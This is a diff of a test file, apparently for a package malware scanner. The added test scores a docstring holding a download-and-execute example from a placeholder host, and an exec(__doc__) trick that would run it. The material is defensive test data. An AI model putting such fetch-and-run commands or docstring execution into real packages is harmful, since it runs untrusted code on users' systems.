@@ -615,3 +615,18 @@ def test_a_build_script_shipped_in_the_package_is_build_tooling() -> None:
     assert weight("install-hook", shipped) < weight("install-hook", missing)
     assert weight("process-exec", fetching) == weight("process-exec", missing) > 0.1
     assert weight("install-hook", fetching) == weight("install-hook", missing)
+
+
+def test_code_shown_in_a_docstring_weighs_less_unless_the_file_reads_its_docstring() -> None:
+    """A docstring that shows a fetch-and-run as an example is documentation; a file that
+    reads ``__doc__`` (``exec(__doc__)``) can run it."""
+    doc = (
+        '"""Example of what we refuse:\n\n'
+        "    import os, urllib.request\n"
+        "    urllib.request.urlretrieve('https://example.invalid/x', 'x')\n"
+        "    os.system('chmod +x x && ./x')\n"
+        '"""\n'
+    )
+    shown = weight("embedded-code", {"acme/__init__.py": doc + "LIMIT = 1\n"})
+    read = weight("embedded-code", {"acme/__init__.py": doc + "exec(__doc__)\n"})
+    assert 0 < shown < read
